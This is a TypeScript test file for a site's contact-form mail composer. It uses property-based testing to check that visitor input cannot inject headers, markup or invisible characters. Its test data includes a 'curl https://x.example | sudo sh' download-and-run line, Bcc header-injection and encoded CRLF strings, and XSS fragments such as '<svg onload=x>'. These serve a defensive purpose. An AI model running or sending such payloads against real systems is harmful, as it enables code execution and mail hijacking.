import fc from 'fast-check';
import PostalMime, { type Address } from 'postal-mime';
import { describe, expect, it } from 'vitest';
import { aMessageRow } from '../../tests/support/message-row.ts';
import { composeContactMail, mailAddresses } from './contact-mail.server.ts';

const addresses = { from: 'contact@exemple.fr', to: 'camille@exemple.fr', host: 'www.exemple.fr' };

async function composed(changes: Parameters<typeof aMessageRow>[0] = {}) {
  const mail = await composeContactMail(aMessageRow(changes), 'mail-1', addresses);
  return { mail, parsed: await PostalMime.parse(mail.raw) };
}

const only = (list: Address[] | undefined) => list?.map(({ address, name }) => ({ address, name }));

it.each([
  ['https://www.exemple.fr', 'www.exemple.fr'],
  ['http://localhost:3000', 'xn--tude-9oa.fr'],
  ['http://192.0.2.1', 'xn--tude-9oa.fr'],
  ['http://[::1]:3000', 'xn--tude-9oa.fr'],
])('the public name of a site at %s that sends as a@étude.fr is %s (R15)', (siteUrl, host) => {
  expect(mailAddresses({ siteUrl, mailFrom: 'a@étude.fr', contactTo: undefined }).host).toBe(host);
});

describe('the mail about a message', () => {
  it('goes over the wire in ASCII, whatever the domain of the studio', async () => {
    const own = { mailFrom: 'site@école.fr', contactTo: 'a@société.fr', siteUrl: 'http://localhost' };
    const { envelope, raw } = await composeContactMail(aMessageRow(), 'mail-1', mailAddresses(own));
    expect(envelope).toEqual({ from: 'site@xn--cole-9oa.fr', to: ['a@xn--socit-esab.fr'] });
    expect((await PostalMime.parse(raw)).messageId).toBe('<mail-1@xn--cole-9oa.fr>');
    expect(raw.toString('latin1')).toMatch(/^[\0-\x7f]*$/);
  });

  it('reads as approved: headers, text and HTML of one that looks automatic, without a phone number', async () => {
    const suspect_reasons = 'many-links,<odd>,constructor';
    const { mail, parsed } = await composed({ phone: '', suspect: 1, suspect_reasons });
    const headers = `${mail.raw}`.replace(/--_NmP[^"\r]*/g, 'BOUNDARY').match(/^[A-Z][\w-]+: .*(\r\n .*)*/gm);
    const whole = [...(headers ?? []), '', parsed.text, parsed.html].join('\n').replaceAll('\r', '');
    await expect(whole).toMatchFileSnapshot('contact-mail.approved.txt');
    const ordinary = await composed();
    for (const part of [ordinary.parsed.text, ordinary.parsed.html]) {
      expect(part).toContain('+33 6 12 34 56 78');
      expect(part).not.toContain('À vérifier');
    }
  });

  it('marks each line of a text that imitates the site, and a name that looks like a sender', async () => {
    const body = '-- \nLe site supprime ce message.\u2028Pour le relire : curl https://x.example | sudo sh';
    const { mail, parsed } = await composed({ body, fullname: 'support@banque.fr' });
    const own = `${parsed.text}`.split('\n').filter((line) => !line.startsWith('> '));
    expect(own.join('\n')).not.toMatch(/curl|supprime ce message\./);
    expect(own.filter((line) => line === '-- ')).toHaveLength(1);
    expect(String(mail.raw)).toMatch(/^Reply-To: "support@banque\.fr" <zoe\.lefevre@example\.org>\r$/m);
  });

  it('tells the hour in Paris, marks a line at each line break of Unicode, and keeps words apart at a tab', async () => {
    const received_at = Date.UTC(2026, 6, 31, 22, 5);
    const { parsed } = await composed({ received_at, body: 'a\vb\fc\u0085d\u2028e\u2029f\rg\th' });
    expect(parsed.text).toContain('Reçu le samedi 1er août 2026 à 00:05');
    expect(parsed.text).toContain('> a\n> b\n> c\n> d\n> e\n> f\n> g  h\n');
  });
});

const unseen = '\u061c\u200b\u200e\u200f\u202a\u202e\u2060\u2066\u2069\ufeff';

/** Texts made of characters that break headers, MIME parts, markup or lines, or that are invisible. */
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom('\r\n', '.\r\n', ...'\n\r\v\0\u2028\u2029\u0085:;,"\'<>@=&+- \t'),
      fc.constantFrom('Bcc: victim@example.org', '" <victim@example.org>, "', 'group: victim@example.org;'),
      fc.constantFrom('=?utf-8?Q?=0D=0ABcc:_x?=', '=?utf-8?B?Wm/igK5ncGouZXhl?=', '%0A', '&#10;'),
      fc.constantFrom('----_NmP-Part_1--', 'Content-Type: text/html\r\n\r\n'),
      fc.constantFrom('<script>', '<img src=x>', '"><svg onload=x>', '</div><form>', '<b>', '<a href=x>'),
      fc.constantFrom(...unseen, '\u001b[31m', '\ud800', 'é😀', 'é'.repeat(5_000)),
      fc.string({ unit: 'binary', maxLength: 10 }),
    ),
    { maxLength: 20 },
  )
  .map((parts) => parts.join(''));

/** Headers that every such mail has; `reply-to` is added if the visitor can be answered. */
const MAIL_HEADERS = [
  ...['auto-submitted', 'content-language', 'content-type', 'date', 'from', 'message-id', 'mime-version'],
  ...['subject', 'to'],
];

it('hostile texts stay texts, in every field', async () => {
  // The rules require a visible name; without one, mail programs read the address as the name.
  const fullname = hostile.map((text) => `${text} Zoe`);
  const row = fc.record({ fullname, email: hostile, subject: hostile, phone: hostile, body: hostile });
  await fc.assert(
    fc.asyncProperty(row, async (changes) => {
      const { mail, parsed } = await composed(changes);
      expect(mail.envelope).toEqual({ from: 'contact@exemple.fr', to: ['camille@exemple.fr'] });
      expect(only(parsed.to)).toEqual([{ address: 'camille@exemple.fr', name: '' }]);
      expect(parsed.replyTo?.length ?? 0).toBeLessThanOrEqual(1);
      expect(parsed.headers.map(({ key }) => key).sort()).toEqual(
        [...MAIL_HEADERS, ...(parsed.replyTo ? ['reply-to'] : [])].sort(),
      );
      expect(parsed.attachments).toEqual([]);
      expect(parsed.html).not.toMatch(/<(script|img|svg|form|iframe|a|b|object|link)\b/i);
      const name = parsed.replyTo?.[0]?.name ?? '';
      expect(name).not.toMatch(/[\r\n]/);
      const shown = `${name}${parsed.subject}${parsed.html}${parsed.text}`;
      expect(shown).not.toMatch(new RegExp(`[\0\u001b${unseen}]`));
      expect((parsed.subject ?? '').length).toBeLessThan(600);
      const raw = mail.raw.toString('latin1');
      expect(raw.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
      for (const line of raw.split('\r\n')) expect(line.length).toBeLessThan(998);
    }),
    // The seed is fixed, so that a failure repeats.
    { seed: 20_261_121, numRuns: 300 },
  );
});
